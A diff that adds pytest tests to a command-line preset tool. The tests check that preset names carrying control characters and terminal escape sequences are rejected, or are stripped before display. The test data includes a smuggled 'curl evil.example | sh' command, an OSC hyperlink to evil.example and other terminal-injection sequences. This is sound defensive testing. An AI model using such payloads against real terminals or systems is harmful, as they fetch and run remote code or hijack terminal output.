@@ -413,6 +413,54 @@ def test_export_json_to_stdout_and_file(places: dict[str, Path]) -> None:
     )
 
 
+# -- hostile presets -------------------------------------------------------------------------
+
+
+def _hostile_file(folder: Path) -> Path:
+    """A preset whose names carry a newline, an OSC title sequence and a command."""
+    import yaml
+
+    data = preset_to_dict(make_preset())
+    data["name"] = "evil\x1b]0;owned\x07"
+    data["model"]["name"] = "mu\ncurl evil.example | sh"
+    data["fingerprint"]["device_name"] = "A100\r\nx"
+    data["config"]["knobs"] = {"block_group\x1b[2J": 2}
+    path = folder / "hostile.yaml"
+    path.write_text(yaml.safe_dump(data))
+    return path
+
+
+@pytest.mark.parametrize("command", [["show"], ["export", "--format", "torchrun"]])
+def test_a_name_with_control_characters_is_refused_in_one_paragraph(
+    places: dict[str, Path], command: list[str]
+) -> None:
+    path = _hostile_file(places["cwd"])
+    result = invoke(command[0], str(path), *command[1:])
+    assert result.exit_code == 2
+    assert result.stdout == ""  # nothing exported, nothing shown
+    assert "Traceback" not in result.output
+    assert result.output.startswith(f"error: invalid preset {path}:")
+    for where, code in [
+        ("name", "001B"),
+        ("model.name", "000A"),
+        ("fingerprint.device_name", "000D"),
+    ]:
+        assert f"  - {where}: contains the control character U+{code}" in result.output
+    assert "  - config.knobs: the knob 'block_group\\x1b[2J' contains" in result.output
+    assert "\x1b" not in result.output and "\x07" not in result.output
+
+
+def test_show_passes_no_terminal_sequence(places: dict[str, Path]) -> None:
+    osc, dcs, c1 = "\x1b]8;;http://evil.example\x1b\\", "\x1bP+q\x1b\\", "\x9b31m\x9d0;t\x9c"
+    notes = f"line one {osc}link\nline two {dcs}{c1}\x1b[31mred\x07"
+    save_preset(make_preset(notes=notes), places["cwd"] / "best.yaml")
+    result = invoke("show", "best.yaml")
+    assert result.exit_code == 0, result.output
+    for char in ("\x1b", "\x07", "\x9b", "\x9c", "\x9d", "\x90"):
+        assert char not in result.output
+    assert "  line one link\n  line two red" in result.output
+
+
 # -- list on a narrow terminal ---------------------------------------------------------------
 
 
